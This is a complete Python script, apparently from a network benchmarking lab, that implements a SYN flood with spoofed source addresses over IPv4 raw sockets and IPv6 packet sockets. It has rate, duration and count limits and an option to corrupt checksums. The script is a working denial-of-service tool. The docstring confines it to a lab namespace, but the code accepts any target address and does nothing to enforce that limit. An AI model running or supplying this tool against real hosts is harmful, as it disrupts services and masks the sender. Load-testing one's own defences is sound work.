#!/usr/bin/env python3
"""A bounded SYN flood from spoofed sources, for the netns lab only.

Usage: synflood.py TARGET [options]                  (IPv4)
       synflood.py IFACE DST_MAC TARGET [options]    (IPv6)

Sends TCP SYNs (with an MSS option, as real stacks send) to TARGET:PORT
with random source addresses and ports drawn from --sources (never
answered: nobody owns them) at up to --rate per second, for --duration
seconds or --count SYNs, whichever ends first; then prints "sent N in S s".
IPv4 goes through a raw socket to TARGET; IPv6 is written as Ethernet
frames out of IFACE to DST_MAC (AF_PACKET, so the kernel neither resolves
nor filters the spoofed sources; hping3 does not do IPv6). Needs root and
must run inside a lab namespace (bench/lab.sh exec client ...): the frames
go out of that namespace's interface and nowhere else.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

# Per family: the default spoofed sources, and the MSS and window a real stack offers.
SOURCES = {4: "10.99.0.0/16", 6: "2001:db8:71:0:8000::/65"}
MSS_WINDOW = {4: (1460, 64240), 6: (1440, 64800)}


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int, bad: bool) -> bytes:
    """An IPv4 or IPv6 packet (by the addresses' length) holding one SYN."""
    v6 = len(src) == 16
    mss, window = MSS_WINDOW[6 if v6 else 4]
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, window, 0, 0)
    tcp += struct.pack("!BBH", 2, 4, mss)
    if v6:
        pseudo = src + dst + struct.pack("!I", len(tcp)) + b"\0\0\0\x06"
    else:
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp) ^ (0x5A5A if bad else 0)) + tcp[18:]
    if v6:
        return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + src + dst + tcp
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
        socket.IPPROTO_TCP, 0, src, dst,
    )
    return ip + tcp  # the kernel fills in the IP checksum (IP_HDRINCL)


def sender(where: list, target: str):
    """A function that sends one packet toward the target, or an error."""
    if len(where) == 1:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        return lambda packet: s.sendto(packet, (target, 0))
    iface, dst_mac = where[0], where[1]
    src_mac = open(f"/sys/class/net/{iface}/address").read().strip()
    eth = bytes.fromhex(dst_mac.replace(":", "") + src_mac.replace(":", "")) + b"\x86\xdd"
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    return lambda packet: s.send(eth + packet)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("where", nargs="+", metavar="[IFACE DST_MAC] TARGET")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--sources", help="spoofed source network (default: %s)" % SOURCES)
    ap.add_argument("--rate", type=int, default=20000, help="SYNs per second at most")
    ap.add_argument("--duration", type=float, default=5.0, help="seconds at most")
    ap.add_argument("--count", type=int, default=200000, help="SYNs at most")
    ap.add_argument("--bad-checksum", action="store_true", help="corrupt every TCP checksum")
    a = ap.parse_args()
    try:
        dst = ipaddress.ip_address(a.where[-1])
    except ValueError as e:
        print(f"synflood: {e}", file=sys.stderr)
        return 2
    if len(a.where) != (1 if dst.version == 4 else 3):
        print("synflood: give TARGET for IPv4, IFACE DST_MAC TARGET for IPv6", file=sys.stderr)
        return 2
    net = ipaddress.ip_network(a.sources or SOURCES[dst.version])
    if net.version != dst.version or net.num_addresses < 4 or a.rate <= 0 or a.duration <= 0 or a.count <= 0:
        print("synflood: --sources must be a network of the target's family with 4 addresses "
              "or more; rate, duration and count must be > 0", file=sys.stderr)
        return 2
    try:
        send = sender(a.where, a.where[-1])
    except PermissionError:
        print("synflood: a raw or packet socket needs root", file=sys.stderr)
        return 2
    address = type(dst)  # IPv4Address or IPv6Address: one from an int
    base, span = int(net.network_address), net.num_addresses - 2
    start = time.monotonic()
    sent = 0
    while sent < a.count:
        elapsed = time.monotonic() - start
        if elapsed >= a.duration:
            break
        if sent > a.rate * elapsed:
            time.sleep(0.001)
            continue
        src = address(base + 1 + random.randrange(span)).packed
        packet = syn(src, dst.packed, random.randrange(1024, 65536), a.port, random.getrandbits(32), a.bad_checksum)
        try:
            send(packet)
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.0005)  # the interface queue is full: let it drain
    print(f"sent {sent} in {time.monotonic() - start:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
